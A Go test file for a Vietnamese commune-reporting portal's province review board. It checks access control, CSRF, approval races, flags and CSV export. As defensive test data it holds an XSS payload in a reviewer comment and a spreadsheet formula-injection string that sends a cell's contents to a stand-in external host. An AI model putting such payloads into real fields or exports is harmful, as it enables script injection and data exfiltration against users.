package portal_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"fmt"
	"net/http"
	"net/url"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xhht/xhht/pipeline/deadlines"
	"github.com/xhht/xhht/pipeline/ingest"
	"github.com/xhht/xhht/pipeline/lake"
	"github.com/xhht/xhht/pipeline/portal"
	"github.com/xhht/xhht/pipeline/portal/portaltest"
	"github.com/xhht/xhht/pipeline/review"
	"github.com/xhht/xhht/pipeline/rollup"
)

const (
	provinceTN = "19" // Thái Nguyên: communes A and B
	provinceHN = "01" // Hà Nội: commune C
)

// provinceSlots gives each signed-in reviewer its own code (slot), as
// each official has one.
var provinceSlots struct {
	sync.Mutex
	n int
}

// signInProvince signs a client in with a new reviewer code of province
// and returns the board's CSRF token.
func (c *client) signInProvince(province string) string {
	c.e.t.Helper()
	provinceSlots.Lock()
	provinceSlots.n++
	slot := fmt.Sprintf("%02d", provinceSlots.n%99+1)
	provinceSlots.Unlock()
	code := portaltest.ProvinceCode(c.e.t, c.e.lake, year, province, slot, testNow.Add(-time.Hour))
	r := c.signIn(code)
	if r.status != http.StatusSeeOther {
		c.e.t.Fatalf("province sign in: %d %s", r.status, r.body)
	}
	home := c.get("/")
	if home.status != http.StatusSeeOther || home.header.Get("Location") != "/tinh" {
		c.e.t.Fatalf("a province session's home: %d → %q, want the board", home.status, home.header.Get("Location"))
	}
	b := c.get("/tinh")
	if b.status != http.StatusOK {
		c.e.t.Fatalf("board: %d %s", b.status, b.body)
	}
	m := csrfRe.FindStringSubmatch(b.body)
	if m == nil {
		c.e.t.Fatal("no CSRF token on the board")
	}
	return m[1]
}

var rowRe = regexp.MustCompile(`(?s)<tr data-xa="(\d{5})">(.*?)</tr>`)
var tagRe = regexp.MustCompile(`class="tag ([a-z]+)"`)

// boardStatus reads each commune's status class off the board page.
func boardStatus(t *testing.T, body string) map[string]string {
	t.Helper()
	out := map[string]string{}
	for _, m := range rowRe.FindAllStringSubmatch(body, -1) {
		if tm := tagRe.FindStringSubmatch(m[2]); tm != nil {
			out[m[1]] = tm[1]
		}
	}
	return out
}

func latestOf(t *testing.T, e *env, commune string) string {
	t.Helper()
	id, err := review.LatestAccepted(context.Background(), e.lake, year, provinceTN, commune)
	if err != nil || id == "" {
		t.Fatalf("latest accepted of %s: %q, %v", commune, id, err)
	}
	return id
}

// TestBoardAndReviewFlow: the board lists every commune of the province's
// register with its status, and follows uploads and review actions; the
// commune sees the province's comment.
func TestBoardAndReviewFlow(t *testing.T) {
	e := newEnv(t)
	prov := e.client()
	csrf := prov.signInProvince(provinceTN)

	first := prov.get("/tinh?han=12-01")
	if csp := first.header.Get("Content-Security-Policy"); !strings.Contains(csp, "default-src 'none'") || !strings.Contains(csp, "script-src 'self'") ||
		first.header.Get("X-Frame-Options") != "DENY" || first.header.Get("Cache-Control") != "no-store" {
		t.Errorf("board headers: CSP %q, frame %q, cache %q", csp, first.header.Get("X-Frame-Options"), first.header.Get("Cache-Control"))
	}
	if strings.Contains(first.body, "<script>") || strings.Contains(first.body, " style=") {
		t.Error("the board has inline script or style (the CSP forbids them)")
	}
	st := boardStatus(t, first.body)
	if len(st) < 50 {
		t.Fatalf("board has %d communes; Thái Nguyên has about 92 in the 2025 register", len(st))
	}
	if st[communeA] != "missing" || st[communeB] != "missing" {
		t.Fatalf("before uploads: A %q, B %q", st[communeA], st[communeB])
	}
	if _, ok := st[communeC]; ok {
		t.Fatal("a Hà Nội commune is on Thái Nguyên's board")
	}

	// A uploads a good file (on time for 1/12), B a bad one.
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	if r := a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 4), nil, nil); r.status != http.StatusOK {
		t.Fatalf("upload A: %d", r.status)
	}
	bcl := e.client()
	csrfB := bcl.mustSignIn(communeB)
	bad, _ := badFile(t, communeB)
	bcl.upload(csrfB, "<b>sai</b>.xlsx", bad, nil, nil)

	page := prov.get("/tinh?han=12-01").body
	st = boardStatus(t, page)
	// The upload time is the object's (the real clock), so whether A is on
	// time is decided here from its receipt and the province's due date.
	want := "late"
	if ups, _ := review.Uploads(ctx(), e.lake, year, provinceTN, communeA); len(ups) == 1 {
		dl, _ := deadlines.Load()
		if cut, _ := dl.CommuneDue(provinceTN, "12-01", year); deadlines.OnTime(ups[0].ReceivedAt, cut) {
			want = "ontime"
		}
	}
	if st[communeA] != want || st[communeB] != "rejected" {
		t.Fatalf("after uploads: A %q (want %q), B %q", st[communeA], want, st[communeB])
	}
	rowB := rowRe.FindAllStringSubmatch(page, -1)
	for _, m := range rowB {
		if m[1] == communeB && !strings.Contains(m[2], `class="reason"`) {
			t.Errorf("B's row lacks the first reason of its rejection: %s", m[2])
		}
	}
	// Filter and sort by address.
	if f := boardStatus(t, prov.get("/tinh?han=12-01&loc=rejected").body); len(f) != 1 || f[communeB] != "rejected" {
		t.Errorf("filter rejected: %v", f)
	}
	if f := boardStatus(t, prov.get("/tinh?han=12-01&q="+url.QueryEscape("phan dinh phung")).body); len(f) != 1 || f[communeA] == "" {
		t.Errorf("search without diacritics: %v", f)
	}
	sorted := rowRe.FindAllStringSubmatch(prov.get("/tinh?han=12-01&sap=trang-thai&chieu=giam").body, -1)
	if sorted[0][1] != communeA {
		t.Errorf("sorted by status, descending: first %s, want %s (the only accepted one)", sorted[0][1], communeA)
	}

	// Return without a comment: refused, nothing written.
	subA := latestOf(t, e, communeA)
	r := prov.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA}, "comment": {"  "}}, nil)
	if r.status != http.StatusBadRequest || !strings.Contains(r.body, "Cần ghi ý kiến") {
		t.Fatalf("return without comment: %d", r.status)
	}
	if s, _, _ := review.Get(ctx(), e.lake, year, provinceTN, communeA); s.State != "" {
		t.Fatalf("refused return wrote %+v", s)
	}
	comment := `Thôn 3: số hộ <script>alert(1)</script> gấp 10 lần năm trước`
	r = prov.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA}, "comment": {comment}}, nil)
	if r.status != http.StatusSeeOther {
		t.Fatalf("return: %d %s", r.status, r.body)
	}
	if st := boardStatus(t, prov.get("/tinh?han=12-01").body); st[communeA] != "returned" {
		t.Errorf("board after return: %q", st[communeA])
	}
	// The commune sees the state and the comment, escaped.
	home := a.get("/").body
	if !strings.Contains(home, `id="duyet-cua-so"`) || !strings.Contains(home, "Thôn 3: số hộ &lt;script&gt;alert(1)&lt;/script&gt;") {
		t.Fatalf("commune page lacks the escaped comment:\n%s", home)
	}
	if strings.Contains(home, "<script>alert(1)") {
		t.Fatal("the comment reached the commune page unescaped")
	}

	// The commune uploads again; approving the old file is stale.
	a.upload(csrfA, "bao-cao-sua.xlsx", goodFile(t, communeA, 5), nil, nil)
	subA2 := latestOf(t, e, communeA)
	if subA2 == subA {
		t.Fatal("the new upload is not the latest")
	}
	r = prov.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA}}, nil)
	if r.status != http.StatusConflict {
		t.Fatalf("approve a superseded upload: %d, want 409", r.status)
	}
	r = prov.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {prov.seenOf(communeA)}, "submission": {subA2}}, nil)
	if r.status != http.StatusSeeOther {
		t.Fatalf("approve: %d %s", r.status, r.body)
	}
	if st := boardStatus(t, prov.get("/tinh?han=12-01").body); st[communeA] != "approved" {
		t.Errorf("board after approval: %q", st[communeA])
	}
	if h := a.get("/").body; !strings.Contains(h, "Sở đã duyệt số liệu của xã.") {
		t.Error("commune page does not say approved")
	}
	cp := prov.get("/tinh/xa/" + communeA).body
	for _, want := range []string{"Lịch sử duyệt", "Trả lại", "Duyệt", "&lt;script&gt;", `id="nut-mo-lai"`, "bao-cao-sua.xlsx", "Tệp đánh dấu"} {
		if !strings.Contains(cp, want) {
			t.Errorf("commune page for the province lacks %q", want)
		}
	}
	// The marked workbook of the commune's upload, through the province's address.
	mk := regexp.MustCompile(`href="(/tinh/xa/` + communeA + `/danh-dau\?[^"]+)"`).FindStringSubmatch(cp)
	if mk == nil {
		t.Fatal("no marked-workbook link")
	}
	if r := prov.get(strings.ReplaceAll(mk[1], "&amp;", "&")); r.status != http.StatusOK || !bytes.HasPrefix(r.raw, []byte("PK")) {
		t.Errorf("marked workbook: %d", r.status)
	}

	// CSV: same rows, BOM, the statuses.
	c := prov.get("/tinh/bang.csv?han=12-01")
	if !bytes.HasPrefix(c.raw, []byte("\ufeff")) || !strings.HasPrefix(c.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV: %q %q", c.header.Get("Content-Type"), c.raw[:10])
	}
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.raw, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	got := map[string]string{}
	for _, rec := range recs[1:] {
		got[rec[0]] = rec[2]
	}
	if got[communeA] != "approved" || got[communeB] != "rejected" || len(got) != len(st) {
		t.Errorf("CSV: A %q, B %q, %d rows (board %d)", got[communeA], got[communeB], len(got), len(st))
	}
}

// TestCommuneCodeCannotReview: every review endpoint refuses a commune
// code (403), with or without a valid CSRF token, and writes nothing.
func TestCommuneCodeCannotReview(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrf := a.mustSignIn(communeA)
	a.upload(csrf, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	sub := latestOf(t, e, communeA)
	for _, ep := range portal.ReviewPaths {
		for _, commune := range []string{communeA, communeB} {
			path := strings.ReplaceAll(ep.Path, "{commune}", commune)
			var r resp
			if ep.Method == "GET" {
				r = a.get(path + "?key=2026/19/" + commune + "/x.xlsx")
			} else {
				r = a.postForm(path, url.Values{"csrf": {csrf}, "submission": {sub}, "comment": {"tự duyệt"}, "flag": {"x/-/-"}}, nil)
			}
			if r.status != http.StatusForbidden {
				t.Errorf("commune code: %s %s → %d, want 403", ep.Method, path, r.status)
			}
		}
	}
	if objs, _ := e.lake.List(ctx(), lake.ReviewsPrefix); len(objs) != 0 {
		t.Errorf("a commune code wrote a review: %v", objs)
	}
	if objs, _ := e.lake.List(ctx(), lake.AuditPrefix); len(objs) != 0 {
		t.Errorf("a commune code wrote audit records: %v", objs)
	}
}

// TestProvinceCannotSeeAnotherProvince: a Hà Nội reviewer code gets 404 on
// every page and action of a Thái Nguyên commune, its board lists only
// Hà Nội, and a province session cannot use the commune's pages.
func TestProvinceCannotSeeAnotherProvince(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	sub := latestOf(t, e, communeA)

	hn := e.client()
	csrf := hn.signInProvince(provinceHN)
	st := boardStatus(t, hn.get("/tinh").body)
	if _, ok := st[communeA]; ok || st[communeC] == "" {
		t.Fatalf("Hà Nội's board: has A %v, has C %v", st[communeA] != "", st[communeC] != "")
	}
	if c := hn.get("/tinh/bang.csv").body; strings.Contains(c, communeA) {
		t.Error("Hà Nội's CSV lists a Thái Nguyên commune")
	}
	for _, ep := range portal.ReviewPaths {
		if !strings.Contains(ep.Path, "{commune}") {
			continue
		}
		path := strings.ReplaceAll(ep.Path, "{commune}", communeA)
		var r resp
		if ep.Method == "GET" {
			r = hn.get(path + "?key=" + url.QueryEscape("2026/19/"+communeA+"/x.xlsx"))
		} else {
			r = hn.postForm(path, url.Values{"csrf": {csrf}, "submission": {sub}, "comment": {"duyệt hộ"}, "flag": {"x/-/-"}}, nil)
		}
		if r.status != http.StatusNotFound || strings.Contains(r.body, "bao-cao.xlsx") {
			t.Errorf("Hà Nội code: %s %s → %d, want 404", ep.Method, path, r.status)
		}
	}
	if objs, _ := e.lake.List(ctx(), lake.ReviewsPrefix); len(objs) != 0 {
		t.Errorf("another province wrote a review: %v", objs)
	}
	// Thái Nguyên's marked-workbook address with a key of another commune.
	tn := e.client()
	tn.signInProvince(provinceTN)
	if r := tn.get("/tinh/xa/" + communeB + "/danh-dau?key=" + url.QueryEscape("2026/19/"+communeA+"/x.xlsx")); r.status != http.StatusForbidden {
		t.Errorf("marked workbook of A through B's address: %d, want 403", r.status)
	}
	// A province session on the commune's own pages.
	for _, p := range []string{"/bieu-mau", "/danh-dau?key=" + url.QueryEscape("2026/19/"+communeA+"/x.xlsx")} {
		if r := hn.get(p); r.status != http.StatusForbidden {
			t.Errorf("province session GET %s: %d, want 403", p, r.status)
		}
	}
	if r := hn.postForm("/kiem-tra", url.Values{"csrf": {csrf}, "key": {"2026/01/00004/x.xlsx"}}, nil); r.status != http.StatusForbidden {
		t.Errorf("province session POST /kiem-tra: %d, want 403", r.status)
	}
	// CSRF: a review action without the token, or from another site.
	if r := tn.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"submission": {sub}}, nil); r.status != http.StatusForbidden {
		t.Errorf("approve without CSRF token: %d, want 403", r.status)
	}
}

// TestRacingApprovalsOverHTTP: two reviewers approve the same file at
// once from the same page version: exactly one succeeds, the other is
// told another reviewer acted (409); exactly one audit record exists.
func TestRacingApprovalsOverHTTP(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	sub := latestOf(t, e, communeA)
	p1, p2 := e.client(), e.client()
	c1, c2 := p1.signInProvince(provinceTN), p2.signInProvince(provinceTN)
	s1, s2 := p1.seenOf(communeA), p2.seenOf(communeA)
	var wg sync.WaitGroup
	var r1, r2 resp
	wg.Add(2)
	go func() {
		defer wg.Done()
		r1 = p1.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {c1}, "seen": {s1}, "submission": {sub}}, nil)
	}()
	go func() {
		defer wg.Done()
		r2 = p2.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {c2}, "seen": {s2}, "submission": {sub}}, nil)
	}()
	wg.Wait()
	if (r1.status == http.StatusSeeOther) == (r2.status == http.StatusSeeOther) || r1.status+r2.status != http.StatusSeeOther+http.StatusConflict {
		t.Fatalf("racing approvals: %d, %d; want one 303 and one 409", r1.status, r2.status)
	}
	h, _ := review.History(ctx(), e.lake, year, provinceTN, communeA)
	if len(h) != 1 {
		t.Fatalf("%d audit records, want 1", len(h))
	}
}

// TestUploadRacesApprovalOverHTTP: the commune uploads while the province
// approves the file it is looking at. Either the approval came first (the
// new upload then waits, approved data still counts) or it is refused as
// stale; never is the new, unseen file approved.
func TestUploadRacesApprovalOverHTTP(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	sub := latestOf(t, e, communeA)
	p := e.client()
	csrf := p.signInProvince(provinceTN)
	second := goodFile(t, communeA, 4)
	seen := p.seenOf(communeA)
	e.clock.Add(time.Minute)
	var wg sync.WaitGroup
	var ra resp
	wg.Add(2)
	go func() {
		defer wg.Done()
		ra = p.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {seen}, "submission": {sub}}, nil)
	}()
	go func() { defer wg.Done(); a.upload(csrfA, "bao-cao-2.xlsx", second, nil, nil) }()
	wg.Wait()
	s, _, _ := review.Get(ctx(), e.lake, year, provinceTN, communeA)
	switch ra.status {
	case http.StatusSeeOther:
		if s.ApprovedSubmission != sub {
			t.Fatalf("approved %q, want the file looked at %q", s.ApprovedSubmission, sub)
		}
		cur, err := review.CurrentAccepted(ctx(), e.lake, year, provinceTN, communeA)
		if err != nil {
			t.Fatal(err)
		}
		if shown, counted := review.Effective(s, cur, true); shown != review.Submitted || counted.IDs() == nil || len(counted.IDs()) != 1 || !counted.Has(sub) {
			t.Fatalf("after the race: (%s, %s), want the new file waiting and %s counted", shown, counted, sub)
		}
	case http.StatusConflict:
		if s.State != "" {
			t.Fatalf("a stale approval wrote %+v", s)
		}
	default:
		t.Fatalf("approval: %d %s", ra.status, ra.body)
	}
}

// TestFlagsOnBoardAndCheck: flags from the FlagReader show on the board and
// the commune page; marking one "đã xác minh" needs a comment, greys it and
// is audited. The reader here is a stand-in for h-flags' quality.ReadFlags
// (not on main when this was written; the portal takes any FlagReader).
func TestFlagsOnBoardAndCheck(t *testing.T) {
	v := 0.8
	prev := 0.2
	flags := []portal.Flag{{CommuneCode: communeA, FlagID: "rate_change/ty_le_ho_dat/-", Rule: "rate_change", Indicator: "ty_le_ho_dat",
		Value: &v, PreviousValue: &prev, Comparable: true, Message: "Tỷ lệ hộ GĐHT thay đổi hơn 20 điểm <b>so với năm trước</b>"}}
	e := newEnv(t, func(c *portal.Config) {
		c.Flags = portal.FlagReaderFunc(func(_ context.Context, y int, p string) ([]portal.Flag, error) {
			if y != year || p != provinceTN {
				return nil, nil
			}
			return flags, nil
		})
	})
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	p := e.client()
	csrf := p.signInProvince(provinceTN)
	board := p.get("/tinh?loc=canh-bao").body
	if st := boardStatus(t, board); len(st) != 1 || st[communeA] == "" {
		t.Fatalf("filter by open flags: %v", st)
	}
	if !strings.Contains(board, "&lt;b&gt;so với năm trước&lt;/b&gt; (năm trước 20,0 % → năm nay 80,0 %)") {
		t.Errorf("flag text not shown escaped with its values")
	}
	// The commune sees its own flag with the receipt, escaped, with last
	// year's value; another commune of the province does not.
	const shown = "&lt;b&gt;so với năm trước&lt;/b&gt; (năm trước 20,0 % → năm nay 80,0 %)"
	if page := a.get("/").body; !strings.Contains(page, `id="canh-bao-hop-ly"`) || !strings.Contains(page, shown) {
		t.Error("the commune's page does not show its plausibility flag with its values")
	}
	b := e.client()
	b.mustSignIn(communeB)
	if page := b.get("/").body; strings.Contains(page, `id="canh-bao-hop-ly"`) || strings.Contains(page, "so với năm trước") {
		t.Error("another commune's page shows commune A's flag")
	}
	r := p.postForm("/tinh/xa/"+communeA+"/xac-minh", url.Values{"csrf": {csrf}, "flag": {flags[0].FlagID}}, nil)
	if r.status != http.StatusBadRequest {
		t.Fatalf("check without comment: %d", r.status)
	}
	r = p.postForm("/tinh/xa/"+communeA+"/xac-minh", url.Values{"csrf": {csrf}, "flag": {flags[0].FlagID}, "comment": {"Đã gọi xã: đúng, năm nay công nhận đợt mới"}}, nil)
	if r.status != http.StatusSeeOther {
		t.Fatalf("check: %d %s", r.status, r.body)
	}
	if st := boardStatus(t, p.get("/tinh?loc=canh-bao").body); len(st) != 0 {
		t.Errorf("a checked flag still counts as open: %v", st)
	}
	cp := p.get("/tinh/xa/" + communeA).body
	if !strings.Contains(cp, `<li class="checked">`) || !strings.Contains(cp, "Đã xác minh: Đã gọi xã") || !strings.Contains(cp, "Xác minh cảnh báo") {
		t.Error("checked flag not greyed, or not in the history")
	}
	if page := a.get("/").body; !strings.Contains(page, `<li class="checked">`) || !strings.Contains(page, "Sở đã xác minh: Đã gọi xã") {
		t.Error("the commune's page does not grey a checked flag with the province's note")
	}
}

// TestBoardRatesFromRollup: the board's rates come from the roll-up's
// communes table (a real build, read with parquet-go through the manifest).
func TestBoardRatesFromRollup(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 4), nil, nil)
	if _, err := rollup.Build(ctx(), rollup.Options{Lake: e.lake, Year: year, Province: provinceTN, Now: testNow}); err != nil {
		t.Fatal(err)
	}
	p := e.client()
	p.signInProvince(provinceTN)
	var rowA string
	for _, m := range rowRe.FindAllStringSubmatch(p.get("/tinh").body, -1) {
		if m[1] == communeA {
			rowA = m[2]
		}
	}
	cells := regexp.MustCompile(`<td class="num[^"]*">([^<]*)`).FindAllStringSubmatch(rowA, -1)
	if len(cells) != 3 {
		t.Fatalf("rate cells: %v", cells)
	}
	for _, c := range cells {
		if !regexp.MustCompile(`^\d{1,3},\d %$`).MatchString(c[1]) {
			t.Errorf("rate %q is not a percentage from the roll-up", c[1])
		}
	}
	// The commune page shows its hamlets from the roll-up.
	if cp := p.get("/tinh/xa/" + communeA).body; !strings.Contains(cp, "Thôn 1") {
		t.Error("commune page lacks the roll-up's hamlet rows")
	}
}

// TestReminderOnCommunePage: the reminder text (Config.Reminder, the same
// text the commune's e-mail carries) is on its page, escaped; a failure to
// build it does not hide the page.
func TestReminderOnCommunePage(t *testing.T) {
	fail := false
	e := newEnv(t, func(c *portal.Config) {
		c.Reminder = func(_ context.Context, y int, p, cm string) (string, error) {
			if fail {
				return "", context.DeadlineExceeded
			}
			return "Xã " + cm + " chưa nộp <b>Biểu 01</b> năm " + fmt.Sprint(y), nil
		}
	})
	a := e.client()
	a.mustSignIn(communeA)
	if h := a.get("/").body; !strings.Contains(h, "Xã "+communeA+" chưa nộp &lt;b&gt;Biểu 01&lt;/b&gt; năm 2026") {
		t.Error("reminder not on the commune page, escaped")
	}
	fail = true
	if r := a.get("/"); r.status != http.StatusOK || strings.Contains(r.body, `id="nhac-nho"`) {
		t.Errorf("failing reminder: %d", r.status)
	}
}

// TestHamletsNextToLastYear: the commune page for the province puts each
// hamlet's counts of this year next to last year's (both from real
// roll-up builds), matched by hamlet code, in the file's order.
func TestHamletsNextToLastYear(t *testing.T) {
	e := newEnv(t)
	lastAndThisYear(t, e)
	prov := e.client()
	prov.signInProvince(provinceTN)
	page := prov.get("/tinh/xa/" + communeA).body
	sec := page[strings.Index(page, `id="cac-thon"`):]
	sec = sec[:strings.Index(sec, "</section>")]
	rows := regexp.MustCompile(`(?s)<tr><td>(.*?)</td>(.*?)</tr>`).FindAllStringSubmatch(sec, -1)
	if len(rows) != 4 {
		t.Fatalf("%d hamlet rows, want 4 (this year's file lists 4):\n%s", len(rows), sec)
	}
	withPrev := 0
	for i, r := range rows {
		if !strings.HasPrefix(r[1], fmt.Sprintf("Thôn %d", i+1)) {
			t.Errorf("row %d is %q: not in the file's order", i, r[1])
		}
		prevCells := regexp.MustCompile(`<td class="num prev">(\d*)</td>`).FindAllStringSubmatch(r[2], -1)
		if len(prevCells) != 4 {
			t.Fatalf("row %d: %d last-year cells", i, len(prevCells))
		}
		if prevCells[0][1] != "" {
			withPrev++
		}
	}
	if withPrev != 3 || !strings.Contains(rows[3][1], "(mới)") {
		t.Errorf("%d hamlets matched last year's (want the 3 of last year's file); the 4th marked new: %v", withPrev, strings.Contains(rows[3][1], "(mới)"))
	}
}

// TestBoardSkipsDamagedReceipt: a receipt that is not JSON is skipped (and
// logged), as on the commune's page; the board still shows the province.
func TestBoardSkipsDamagedReceipt(t *testing.T) {
	e := newEnv(t)
	if err := e.lake.Put(ctx(), lake.ReceiptsCommunePrefix(year, provinceTN, communeB)+"hong.json", []byte("{not json"), "application/json"); err != nil {
		t.Fatal(err)
	}
	p := e.client()
	p.signInProvince(provinceTN)
	r := p.get("/tinh")
	if st := boardStatus(t, r.body); r.status != http.StatusOK || st[communeB] != "missing" {
		t.Fatalf("board with a damaged receipt: %d, B %q", r.status, st[communeB])
	}
	if !strings.Contains(e.log.String(), "unreadable receipt skipped") {
		t.Error("the damaged receipt was not logged")
	}
}

// TestBoardCSVNoFormulas: commune-facing text that looks like a formula
// (a reviewer's comment here) is written with a leading ' in the CSV, so
// Excel shows it instead of running it.
func TestBoardCSVNoFormulas(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	p := e.client()
	csrf := p.signInProvince(provinceTN)
	evil := `=HYPERLINK("http://x.example/?"&A1,"bấm")`
	if r := p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {p.seenOf(communeA)}, "submission": {latestOf(t, e, communeA)}, "comment": {evil}}, nil); r.status != http.StatusSeeOther {
		t.Fatalf("return: %d", r.status)
	}
	c := p.get("/tinh/bang.csv")
	recs, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(c.raw, []byte("\ufeff")))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, rec := range recs[1:] {
		if rec[0] == communeA {
			if got := rec[17]; got != "'"+evil {
				t.Errorf("comment in the CSV: %q, want it quoted", got)
			}
			return
		}
	}
	t.Fatal("commune A not in the CSV")
}

// TestCommunePageReminder: without Config.Reminder the commune's page shows
// pipeline/reminder's text (its mail's words) while it has something to
// do: nothing sent, then its data returned (with the comment); none once
// approved.
func TestCommunePageReminder(t *testing.T) {
	e := newEnv(t)
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	if h := a.get("/").body; !strings.Contains(h, `id="nhac-nho"`) || !strings.Contains(h, "Việc cần làm: tải biểu mẫu, điền số liệu rồi nộp tệp") {
		t.Error("no reminder for a commune that sent nothing")
	}
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 3), nil, nil)
	if h := a.get("/").body; strings.Contains(h, `id="nhac-nho"`) {
		t.Error("a reminder while the file waits for review (nothing to do)")
	}
	p := e.client()
	csrf := p.signInProvince(provinceTN)
	sub := latestOf(t, e, communeA)
	p.postForm("/tinh/xa/"+communeA+"/tra-lai", url.Values{"csrf": {csrf}, "seen": {p.seenOf(communeA)}, "submission": {sub}, "comment": {"Thiếu thôn 4 & 5"}}, nil)
	// The reminder's action line; the comment once, in "Ý kiến của Sở" (review B-M3).
	if h := a.get("/").body; !strings.Contains(h, "Việc cần làm: sửa theo ý kiến của Sở rồi nộp lại") || strings.Count(h, "Thiếu thôn 4 &amp; 5") != 1 {
		t.Error("reminder of a returned commune lacks the return or its comment")
	}
	p.postForm("/tinh/xa/"+communeA+"/duyet", url.Values{"csrf": {csrf}, "seen": {p.seenOf(communeA)}, "submission": {sub}}, nil)
	if h := a.get("/").body; strings.Contains(h, `id="nhac-nho"`) {
		t.Error("a reminder after approval")
	}
}

// lastAndThisYear gives communeA a 3-hamlet upload last year (processed as
// ingest does) and a 4-hamlet one this year through the portal, and builds
// the province's roll-up of both years.
func lastAndThisYear(t *testing.T, e *env) {
	t.Helper()
	blank, sheets := portaltest.Blank(t, year-1, communeA, 3)
	key := fmt.Sprintf("%d/19/%s/nam-truoc.xlsx", year-1, communeA)
	if err := e.uploads.Put(ctx(), key, portaltest.Good(t, blank, sheets, 3).Bytes, "application/octet-stream"); err != nil {
		t.Fatal(err)
	}
	ip, err := ingest.New(e.uploads, e.lake)
	if err != nil {
		t.Fatal(err)
	}
	if rc, err := ip.Process(ctx(), ingest.Upload{Bucket: "local", Key: key}); err != nil || rc.Status != "accepted" {
		t.Fatalf("last year's upload: %v", err)
	}
	a := e.client()
	csrfA := a.mustSignIn(communeA)
	a.upload(csrfA, "bao-cao.xlsx", goodFile(t, communeA, 4), nil, nil)
	for _, y := range []int{year - 1, year} {
		if _, err := rollup.Build(ctx(), rollup.Options{Lake: e.lake, Year: y, Province: provinceTN, Now: testNow}); err != nil {
			t.Fatal(err)
		}
	}
}
